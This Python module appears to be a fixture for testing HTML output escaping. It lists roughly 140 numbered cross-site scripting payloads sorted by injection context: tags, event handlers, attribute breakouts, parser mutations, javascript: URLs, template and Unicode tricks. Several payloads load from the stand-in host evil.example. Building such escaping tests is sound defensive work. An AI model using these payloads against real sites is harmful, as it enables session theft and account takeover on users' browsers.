"""Texts that would run as code wherever they are not shown as text.

«%» becomes the number of the text, so that what runs says which one it was; a page that
asks ``evil.example`` for anything was broken too. Written here, by kind of place.
"""

from __future__ import annotations

FUERA = "evil.example"

ETIQUETAS = (
    "<script>xss(%)</script>",
    "<ScRiPt>xss(%)</sCrIpT>",
    "<script\t>xss(%)</script >",
    "<script/x>xss(%)</script>",
    "<scr<script>ipt>xss(%)</scr</script>ipt>",
    "<script src=//evil.example/%></script>",
    "<script type=module>xss(%)</script>",
    "<script async src='data:text/javascript,xss(%)'></script>",
    "<<script>xss(%)//<</script>",
    "<script>xss(%)",
)
EVENTOS = (
    "<img src=x onerror=xss(%)>",
    "<img/src/onerror=xss(%)>",
    "<IMG SRC=x ONERROR=xss(%)>",
    "<img src=x onerror\n=\nxss(%)>",
    "<img src='x' onerror='xss(%)'",
    "<img srcset=x,y onerror=xss(%)>",
    "<body onload=xss(%)>",
    "<body onpageshow=xss(%)>",
    "<input autofocus onfocus=xss(%)>",
    "<textarea autofocus onfocus=xss(%)>",
    "<select autofocus onfocus=xss(%)>",
    "<a autofocus tabindex=0 onfocus=xss(%)>",
    "<video src=x onerror=xss(%)>",
    "<video><source onerror=xss(%)></video>",
    "<audio src=x onerror=xss(%)>",
    "<details open ontoggle=xss(%)>",
    "<object data=x onerror=xss(%)></object>",
    "<embed src=x onerror=xss(%)>",
    "<link rel=stylesheet href=x onerror=xss(%)>",
    "<style onload=xss(%)></style>",
    "<iframe onload=xss(%)></iframe>",
    "<marquee onstart=xss(%)>",
    "<x style='animation:w 1s' onanimationstart=xss(%)><style>@keyframes w{}</style>",
    "<div popover id=q onbeforetoggle=xss(%)></div><img src=x onerror=q.showPopover()>",
    "<p oncontentvisibilityautostatechange=xss(%) style=content-visibility:auto>",
)
ATRIBUTOS = (
    '"><script>xss(%)</script>',
    "'><script>xss(%)</script>",
    "><script>xss(%)</script>",
    '"><svg/onload=xss(%)>',
    "'><svg/onload=xss(%)>",
    '" onmouseover=xss(%) autofocus onfocus=xss(%) x="',
    "' autofocus onfocus=xss(%) x='",
    '" onerror=xss(%) src=x x="',
    '"autofocus/onfocus="xss(%)',
    "` onerror=xss(%) x=`",
    "&quot;><img src=x onerror=xss(%)>",
    "&#34;&#62;<img src=x onerror=xss(%)>",
    'x" style="background:url(//evil.example/%)',
)
CIERRES = (
    "</title><script>xss(%)</script>",
    "</textarea><img src=x onerror=xss(%)>",
    "</style><img src=x onerror=xss(%)>",
    "</script><script>xss(%)</script>",
    "</noscript><img src=x onerror=xss(%)>",
    "</template><img src=x onerror=xss(%)>",
    "</select><img src=x onerror=xss(%)>",
    "</option><img src=x onerror=xss(%)>",
    "</iframe><img src=x onerror=xss(%)>",
    "--><img src=x onerror=xss(%)>",
    "--!><img src=x onerror=xss(%)>",
    "]]><img src=x onerror=xss(%)>",
    "<!--><img src=x onerror=xss(%)>-->",
    "<!--[if gte IE 4]><script>xss(%)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=xss(%)>]]>",
    "<?xml ?><script>xss(%)</script>",
)
SVG_Y_MATHML = (
    "<svg onload=xss(%)>",
    "<svg><script>xss(%)</script></svg>",
    "<svg><script href=data:text/javascript,xss(%) /></svg>",
    "<svg><animate onbegin=xss(%) attributeName=x dur=1s>",
    "<svg><set onbegin=xss(%) attributeName=x>",
    "<svg><foreignObject><img src=x onerror=xss(%)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss(%)></svg>#x'></svg>",
    "<svg><image href=x onerror=xss(%)>",
    "<math><mtext><img src=x onerror=xss(%)></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=xss(%)></annotation-xml></math>",
)
# What a parser mends into something else.
MUTACIONES = (
    "<noscript><p title='</noscript><img src=x onerror=xss(%)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=xss(%)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss(%)>",
    "<svg></p><style><a id='</style><img src=x onerror=xss(%)>'>",
    "<select><template><img src=x onerror=xss(%)></template></select>",
    "<table><td><a href=x><img src=x onerror=xss(%)></table>",
    "<p id='<img src=x onerror=xss(%)>'>",
    "<xmp><p title='</xmp><img src=x onerror=xss(%)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=xss(%)>'>",
    "<svg><title><img src=x onerror=xss(%)></title></svg>",
)
DIRECCIONES = (
    "javascript:xss(%)",
    "JaVaScRiPt:xss(%)",
    "java\tscript:xss(%)",
    "\x01javascript:xss(%)",
    "javascript://%0axss(%)",
    "javascript:/*--></title></style></script><svg/onload=xss(%)>*/xss(%)",
    "data:text/html,<script>xss(%)</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AueHNzKDEpPC9zY3JpcHQ+",
    "vbscript:xss(%)",
    "<a href=javascript:xss(%)>x</a>",
    "<a href=&#106;avascript:xss(%)>x</a>",
    "<iframe src=javascript:xss(%)>",
    "<iframe srcdoc='<script>parent.xss(%)</script>'>",
    "<form action=javascript:xss(%)><button>x</button></form>",
    "<button formaction=javascript:xss(%)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:xss(%)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/%'>",
    "<base href=//evil.example/%/>",
    "<object data=javascript:xss(%)>",
    'https://example.org/"><svg/onload=xss(%)>',
    "https://example.org/'onfocus='xss(%)'autofocus='",
)
GUIONES = (
    "'-xss(%)-'",
    '"-xss(%)-"',
    "';xss(%);//",
    '";xss(%);//',
    "\\';xss(%);//",
    '\\";xss(%);//',
    "${xss(%)}",
    "`-xss(%)-`",
    "\u2028xss(%)\u2028",
    '"}};xss(%);({"a":{"b":"',
    "</script><svg/onload=xss(%)>",
    "<!--<script>xss(%)",
    "\\u003cscript\\u003exss(%)\\u003c/script\\u003e",
    '{"__proto__":{"innerHTML":"<img src=x onerror=xss(%)>"}}',
)
PLANTILLAS = (
    "{{ xss|safe }}<script>xss(%)</script>",
    "{% autoescape off %}<script>xss(%)</script>{% endautoescape %}",
    "{% include 'x' %}<img src=x onerror=xss(%)>",
    "{{constructor.constructor('xss(%)')()}}",
    "#{xss(%)}",
    "<%= xss(%) %>",
    "%(texto)s<svg/onload=xss(%)>",
    "{0}<svg/onload=xss(%)>",
)
ESTILOS = (
    "<style>@import'//evil.example/%'</style>",
    "<div style=background:url(//evil.example/%)>",
    "<link rel=stylesheet href=//evil.example/%>",
    "<link rel=prefetch href=//evil.example/%>",
    "<img src=//evil.example/%>",
    "<style>*{background:url(//evil.example/%)}</style>",
)
UNICODE = (
    "\uff1cscript\uff1exss(%)\uff1c/script\uff1e",
    "\u202e<script>xss(%)</script>",
    "<\u200bscript>xss(%)</script><svg/onload=xss(%)>",
    "\u00ad<img src=x onerror=xss(%)>",
    "%3Cscript%3Exss(%)%3C/script%3E",
    "&lt;script&gt;xss(%)&lt;/script&gt;",
    "&#x3c;img src=x onerror=xss(%)&#x3e;",
    "+ADw-script+AD4-xss(%)+ADw-/script+AD4-",
    "\u017fcript<svg/onload=xss(%)>",
    "ñ<img src=x onerror=xss(%)>é",
)

CARGAS = (
    *ETIQUETAS,
    *EVENTOS,
    *ATRIBUTOS,
    *CIERRES,
    *SVG_Y_MATHML,
    *MUTACIONES,
    *DIRECCIONES,
    *GUIONES,
    *PLANTILLAS,
    *ESTILOS,
    *UNICODE,
)


def escrita(numero: int) -> str:
    """The text ``numero`` (from 0) with its own number in it."""
    carga = CARGAS[numero]
    for orden in ("xss(%)", "evil.example/%"):
        carga = carga.replace(orden, orden.replace("%", str(numero)))
    return carga
